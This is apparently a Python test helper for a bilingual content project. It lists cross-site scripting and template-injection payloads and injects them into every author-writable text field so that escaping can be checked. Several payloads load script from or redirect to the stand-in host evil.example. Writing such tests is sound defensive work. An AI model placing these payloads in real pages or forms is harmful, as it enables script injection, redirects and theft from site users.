"""What attackers write into texts, and where an author can write."""

from __future__ import annotations

from typing import Any

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    "` onclick=`alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input type=submit>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "{{ 7*7 }}{% debug %}%(name)s",
    "\u202e<b>tnuocca</b>",
    "[x](javascript:alert(1)) ![y](//evil.example/y.png)",
)
PLAIN = "Kata biasa"

_TOKENS = ("messages", "registers")  # braces name places there, and are judged when the document is checked
_LANGUAGES = {"id", "en"}


def written(document: Any, words: str) -> Any:
    """Return `document` with `words` in every text that an author can write."""
    if isinstance(document, dict):
        if document and set(document) <= _LANGUAGES:
            return dict.fromkeys(document, words)
        return {name: value if name in _TOKENS else written(value, words) for name, value in document.items()}
    if isinstance(document, list):
        return [written(item, words) for item in document]
    return document
